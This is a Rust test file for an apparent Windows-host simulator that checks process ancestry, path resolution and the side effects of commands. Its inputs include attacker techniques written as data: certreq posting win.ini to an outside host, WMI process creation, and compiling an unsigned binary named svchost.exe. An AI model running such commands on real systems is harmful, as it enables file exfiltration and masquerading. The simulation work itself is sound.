//! The host itself: its names, and the processes that Windows keeps running.

use misfire::activity::ActivityKind;

use super::Host;

#[test]
fn the_hosts_own_name_is_its_own_address() {
    let mut host = Host::new();
    for name in ["WS01", "ws01.corp.example"] {
        let process = host.shell.process.clone();
        let address = host.world.resolve(&process, name).expect("an address");
        assert_eq!(address, host.world.profile.own_address(), "{name}");
    }
}

#[test]
fn the_provider_of_wmi_is_a_network_service() {
    let mut host = Host::new();
    host.run("wmic process call create notepad.exe");
    let started = host.started();
    let started = started.last().expect("a process");
    assert_eq!(started.image, r"C:\Windows\System32\notepad.exe");
    assert_eq!(started.account, host.shell.process.account);
    let provider = started.parent.as_ref().expect("a parent");
    assert_eq!(
        provider.account.qualified(),
        r"NT AUTHORITY\NETWORK SERVICE"
    );
    assert_eq!(provider.account.sid, "S-1-5-20");
    assert_eq!(provider.logon.id, 0x3e4);
    let launcher = provider.parent.as_ref().expect("a parent");
    assert!(launcher.command_line.ends_with("-k DcomLaunch -p"));
    assert_eq!(launcher.account.sid, "S-1-5-18");
    assert!(
        host.world
            .activities()
            .iter()
            .all(|traced| !matches!(traced.activity.kind, ActivityKind::Connection(_)))
    );
}

#[test]
fn an_unquoted_line_starts_what_its_author_means() {
    for (line, image) in [
        (
            r"C:\Program Files\My Tool\a -x",
            r"C:\Program Files\My Tool\a.exe",
        ),
        (
            r"C:\Program Files\My Tool\a.exe C:\x y",
            r"C:\Program Files\My Tool\a.exe",
        ),
        (r"C:\tools\a C:\in\x.txt", r"C:\tools\a.exe"),
        (r"C:\tools\a \\host\share", r"C:\tools\a.exe"),
    ] {
        let mut host = Host::new();
        host.run(line);
        assert_eq!(host.started()[0].image, image, "{line}");
    }
    let mut host = Host::new();
    host.run(r"C:\Program -x");
    assert!(host.started().is_empty());
}

#[test]
fn programs_are_found_at_their_usual_places() {
    for (line, image) in [
        (
            "rpcping -s 127.0.0.1 -e 135",
            r"C:\Windows\System32\rpcping.exe",
        ),
        (
            "sftp user@files.example:/x .",
            r"C:\Windows\System32\OpenSSH\sftp.exe",
        ),
        (
            "winword",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        ),
        ("dotnet -h", r"C:\Program Files\dotnet\dotnet.exe"),
        (
            "python x.py",
            r"C:\Users\avery\AppData\Local\Programs\Python\Python312\python.exe",
        ),
    ] {
        let mut host = Host::new();
        host.run(line);
        assert_eq!(host.started()[0].image, image, "{line}");
    }
}

#[test]
fn certreq_posts_a_file_and_keeps_the_answer() {
    let mut host = Host::new();
    host.run(r"certreq.exe -Post -config https://files.example c:\windows\win.ini out.txt");
    assert_eq!(
        host.changes(),
        [
            "certreq.exe: dns files.example",
            "certreq.exe: connect 443",
            r"certreq.exe: Created C:\Users\avery\out.txt",
        ]
    );
}

#[test]
fn a_compiler_has_a_helper_and_writes_what_it_is_told() {
    let mut host = Host::new();
    host.run(r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe /out:C:\Temp\svchost.exe C:\Temp\a.cs");
    let lines = host.lines();
    assert!(
        lines[1].starts_with(r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "),
        "{lines:?}"
    );
    let changes = host.changes();
    assert!(
        changes.contains(&r"csc.exe: Created C:\Temp\svchost.exe".to_owned()),
        "{changes:?}"
    );
    host.run(r"C:\Temp\svchost.exe");
    let started = host.started();
    let started = started.last().expect("a process");
    assert_eq!(started.program.signer, None);
    let metadata = started.program.metadata.as_ref().expect("a version");
    assert_eq!(metadata.file_version.as_deref(), Some("0.0.0.0"));
    assert_eq!(
        host.outcome(),
        &misfire::stage::simulate::world::CommandOutcome::OnlyStarted
    );
}

#[test]
fn a_bare_name_is_found_whatever_the_folder_is_called() {
    let mut host = Host::new();
    host.shell.directory = r"C:\ProgramData\Tool\4.18*".to_owned();
    host.run("whoami");
    assert_eq!(host.started()[0].image, r"C:\Windows\System32\whoami.exe");
}
